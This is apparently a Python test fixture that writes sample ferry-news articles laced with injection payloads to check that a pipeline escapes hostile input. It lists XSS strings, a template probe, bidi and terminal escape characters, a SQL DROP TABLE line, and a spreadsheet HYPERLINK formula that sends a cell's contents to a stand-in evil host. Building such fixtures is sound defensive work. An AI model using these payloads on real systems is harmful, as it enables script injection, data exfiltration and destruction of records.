"""Articles whose texts, names and addresses try to be more than text."""

from __future__ import annotations

import json
from pathlib import Path

ATTACKS = [
    "<script>document.title = 'taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "</script><script>document.title='taken'</script>",
    "</style><style>body { display: none }</style>",
    "<!-- --!> <svg onload=\"document.title='taken'\">",
    "{{ 7 * 7 }} {% for each in range(9) %}nine{% endfor %}",
    "&lt;b&gt;bold&lt;/b&gt; &#60;i&#62;",
    "\u202eemag eht htiw gnorw s'tahw\u202c \u2066isolated\u2069",
    "\x1b[2J\x1b]0;taken\x07 cleared",
    '=HYPERLINK("http://evil.example/?"&A1,"ferry")',
    "W" + "o" * 3000 + "rd",
    "javascript:document.title='taken'",
    "${document.title='taken'} `${1}`",
    "\u2028\u2029 line and paragraph separators",
    "'; DROP TABLE documents; --",
]
STORY = "The ferry to Holm sails again from Monday, the harbour office said after nine days of storm and high water."
ENGINEER = "An engineer of pier {} found the pumps of the old dock worn out."
CAPTION = "Picture: the quay at Holm on Sunday. Photo by Mara Quill"


def write_hostile_articles(path: Path) -> Path:
    """Write an article for each attack, with the attack in its text, title, outlet and address, and return the file."""
    rows = [
        {
            "id": f"a{n}",
            "outlet": f"outlet {n % 5} {ATTACKS[n % 5]}",
            "url": f"javascript:document.title='taken'//{n}" if n % 2 else f'https://plume.example/{n}?a="><b>',
            "title": attack[:200],
            "published": f"2025-03-{1 + n:02d}T06:00:00Z",
            "text": "\n\n".join(f"{sentence} {attack}" for sentence in (STORY, ENGINEER.format(n), CAPTION)),
        }
        for n, attack in enumerate(ATTACKS)
    ]
    lines = [
        *(json.dumps(row) for row in rows),
        '{"text": "<script>document.title=1</script>',
        json.dumps({"text": ""}),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path
